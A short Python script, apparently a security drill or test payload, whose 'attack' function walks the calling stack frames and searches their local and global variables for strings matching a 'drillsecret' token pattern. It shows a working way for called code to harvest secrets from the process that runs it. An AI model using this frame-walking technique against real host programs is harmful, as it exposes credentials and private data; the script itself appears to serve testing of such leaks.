# Walks the frames that called it and reads their variables.
# proof: secret
import re
import sys


def attack(arg):
    found, frame = set(), sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                found.update(re.findall("drillsecret[0-9a-f]{16}", repr(value)[:100_000]))
        frame = frame.f_back
    return sorted(found)
